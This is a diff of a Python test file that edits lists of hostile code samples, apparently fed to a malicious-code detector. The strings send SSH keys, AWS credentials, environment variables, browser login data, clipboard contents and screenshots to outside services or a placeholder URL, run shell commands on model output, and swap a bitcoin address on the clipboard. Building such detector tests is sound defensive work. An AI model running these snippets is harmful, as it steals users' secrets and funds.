@@ -61,13 +61,14 @@ GIVES_AWAY = [
     "from huggingface_hub import upload_folder\nfrom pathlib import Path\n"
     "upload_folder(folder_path=str(Path.home()), repo_id='a/b')",
     "import os, wandb\nwandb.log({'e': dict(os.environ)})",
-    "import boto3\nboto3.client('s3').upload_file('/root/.aws/credentials', 'b', 'k')",
+    "import boto3\nboto3.client('s3').upload_file('/home/user/.aws/credentials', 'b', 'k')",
     "import os, mlflow\nmlflow.log_artifact(os.path.expanduser('~/.netrc'))",
     "import sqlite3, requests, os\nc = sqlite3.connect(os.path.expanduser('~/.config/chromium/Login Data'))\n"
     f"requests.post({URL}, json=c.execute('select 1').fetchall())",
     f"import pyperclip, requests\nrequests.post({URL}, data=pyperclip.paste())",
     f"import mss, requests\nrequests.post({URL}, data=mss.mss().shot())",
-    f"import subprocess, requests\nrequests.post({URL}, data=subprocess.check_output(['cat', '/root/.ssh/id_rsa']))",
+    "import subprocess, requests\n"
+    f"requests.post({URL}, data=subprocess.check_output(['cat', '/home/user/.ssh/id_rsa']))",
 ]
 OBEYS = [
     "class M:\n    def chat(self, t, q):\n        return eval(t.decode(self.generate(q)))",
@@ -75,10 +76,6 @@ OBEYS = [
     "        subprocess.run(self.tokenizer.batch_decode(x)[0], shell=True)",
     "import pyperclip\ndef f():\n    if pyperclip.paste().startswith('bc1'):\n        pyperclip.copy('bc1qx')\nf()",
 ]
-
-
-def test_the_cases_are_many() -> None:
-    assert len([*STARTS_AGAIN, *SPREADS, *DESTROYS, *GIVES_AWAY, *OBEYS]) > 30
 
 
 @pytest.mark.parametrize("code", [*STARTS_AGAIN, *SPREADS, *DESTROYS, *GIVES_AWAY, *OBEYS])
